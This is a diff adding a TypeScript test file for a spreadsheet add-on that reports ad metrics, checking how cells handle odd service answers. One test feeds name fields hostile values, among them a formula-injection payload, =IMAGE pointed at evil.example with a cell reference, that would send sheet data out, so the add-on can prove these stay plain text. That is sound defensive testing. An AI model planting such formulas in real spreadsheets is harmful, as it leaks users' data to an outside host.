@@ -1,0 +1,113 @@
+import { valueRequest } from '../../src/formulas/results/single-value';
+import type { Request } from '../../src/request/request';
+import { asked } from './asked';
+import { DirectSheet } from './direct-sheet';
+import type { FormulaCell, FormulaName } from './shown-cells';
+
+/** Answers of the service that are strange, and what cells show. */
+
+const FOR_EVER = { times: 'until cleared' } as const;
+const DAY = '2026-09-10';
+let sheet: DirectSheet;
+beforeEach(() => {
+  sheet = new DirectSheet();
+});
+
+/** The rows below the header, while the service has a fault. */
+function rowsWith(
+  fault: string,
+  options: object,
+  name: FormulaName,
+  ...args: readonly unknown[]
+): FormulaCell[][] {
+  sheet.service.arm(fault, { ...options, ...FOR_EVER });
+  return sheet.table(name, ...args).slice(1);
+}
+
+it('a warning about unknown numbers that names no metric is shown instead of them, for less than a minute', () => {
+  sheet.service.arm('warning', { metrics: 'dau', message: 'data of 2026-09-03 is incomplete', ...FOR_EVER });
+  const value = ['ADREPORT_VALUE', 'full', 'dau', '3.10', DAY] as const;
+  expect(sheet.sentence(...value)).toContain('The service says: “data of 2026-09-03 is incomplete”.');
+  sheet.service.clearFaults();
+  sheet.clock.pass(60_000);
+  expect(sheet.value(...value)).toBeGreaterThan(0);
+});
+
+it('a retention above 1 is shown as a doubt, never as a share', () => {
+  sheet.service.arm('strange-numbers', { field: 'kp2', text: '1.25', ...FOR_EVER });
+  expect(sheet.sentence('ADREPORT_RETENTION', '3.10', 2, '2026-09-01')).toMatch(
+    /not between 0 and 1, .* of 1\.25/,
+  );
+});
+
+it('a number of one day that is sent as “-” makes the cell and its sums blank, and no other number', () => {
+  const days = ['2026-09-01', '2026-09-03'] as const;
+  const strange = { field: 'Revenue', text: '-', row: 1 };
+  const rows = rowsWith('strange-numbers', strange, 'ADREPORT_FULL', '', 'revenue,impressionApi', ...days);
+  expect(rows.map(([, revenue]) => revenue)).toEqual([expect.any(Number), '', expect.any(Number)]);
+  const value = (metric: string) => sheet.value('ADREPORT_VALUE', 'full', metric, '', ...days);
+  expect([value('revenue'), value('ecpmApi')]).toEqual(['', '']);
+  expect(value('impressionApi')).toBe(rows.reduce((sum, row) => sum + Number(row[2]), 0));
+});
+
+it('one number of days that may change, or of all apps, is requested by day, because a sum by the service hides an unknown day', () => {
+  const dimensionsOf = (changed: Partial<Request>) =>
+    valueRequest(asked(changed), 'revenue', undefined).dimensions;
+  expect(dimensionsOf({ to: asked().newestCompleteDay })).toEqual(['date']);
+  expect(dimensionsOf({ apps: [] })).toEqual(['date']);
+  expect(dimensionsOf({})).toEqual(['appId']);
+});
+
+it.each([
+  ['unknown-network', 'network,networkName', ['9999', 'Newcomer Ads']],
+  ['unknown-format', 'adFormat,adFormatName', ['99', 'Hologram']],
+])('an id that is in no list (%s) is shown with its name', (fault, groups, shown) => {
+  const rows = rowsWith(fault, {}, 'ADREPORT_FULL', '', 'revenue', '2026-09-08', DAY, groups);
+  expect(rows.map((row) => row.slice(0, 2))).toContainEqual(shown);
+});
+
+it('hostile names stay texts, and change no number', () => {
+  const question = ['3.10', 'revenue', DAY, '', 'network,networkName'];
+  const before = sheet.table('ADREPORT_FULL', ...question).slice(1);
+  for (const text of ['=IMAGE("https://evil.example/?"&A1)', '\n=1+1', '\u202Eevil']) {
+    sheet.forget();
+    sheet.service.clearFaults();
+    const rows = rowsWith('hostile-names', { text }, 'ADREPORT_FULL', ...question);
+    expect(rows.map((row) => row.with(1, ''))).toEqual(before.map((row) => row.with(1, '')));
+    for (const [at, [, name]] of rows.entries())
+      expect(String(name).trim()).toBe(`${text.trim()}${before[at]![1]}`);
+  }
+});
+
+it('ids stay the same, character by character, in every report', () => {
+  const ids = ['00123456', '12E45678', '3.10', '9007199254740993'];
+  const column = (at: number, name: FormulaName, ...args: readonly unknown[]) =>
+    sheet
+      .table(name, ...args)
+      .slice(1)
+      .map((row) => row[at]);
+  expect(column(0, 'ADREPORT_FULL', '', 'revenue', DAY, '', 'appId')).toEqual(ids);
+  expect(column(1, 'ADREPORT_LTV', '', 1, DAY)).toEqual(ids);
+  expect(column(1, 'ADREPORT_RETENTION', '', 2, DAY)).toEqual(ids);
+  expect(column(0, 'ADREPORT_DEVICE', '9007199254740993', DAY, 'appId')).toEqual([ids[3]]);
+  const placements = column(0, 'ADREPORT_FULL', '00123456', 'revenue', DAY, '', 'placementId');
+  expect(placements).toEqual(expect.arrayContaining(['0017', '1E10', '1/2', '1-1']));
+  const versions = column(2, 'ADREPORT_LTV', '3.10', 1, DAY, '', 'appVersion');
+  expect(versions).toEqual(expect.arrayContaining(['3.10', '3.1', '2.0.0']));
+});
+
+it.each(['captured', 'specified'] as const)(
+  'a table above the 250,000 cells of a formula is refused, without its last pages, by a service that answers as %s',
+  (shape) => {
+    sheet = new DirectSheet({ service: { rowsScale: 6, shape } });
+    const groups = 'placementId,networkPlacementId,area,appId';
+    const { length } = sheet.table('ADREPORT_FULL', '', 'revenue', DAY, '', groups);
+    sheet.forget();
+    expect(sheet.sentence('ADREPORT_FULL', '', 'all', DAY, '', groups)).toMatch(
+      /^The result has more than [\d,]+ rows, and one formula may return 250,000 cells; ask for fewer days, /,
+    );
+    expect(sheet.service.requests.reduce((sum, { rows }) => sum + (rows ?? 0), 0)).toBeLessThan(
+      length + 9_000,
+    );
+  },
+);
